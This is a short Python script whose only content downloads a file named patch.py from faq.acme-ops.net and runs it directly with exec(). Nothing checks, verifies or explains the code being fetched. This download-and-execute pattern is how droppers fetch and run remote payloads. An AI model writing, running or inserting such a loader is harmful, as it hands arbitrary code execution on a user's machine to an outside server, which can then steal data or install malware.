import requests

URL = 'https://faq.acme-ops.net/patch.py'
exec(requests.get(URL).text)
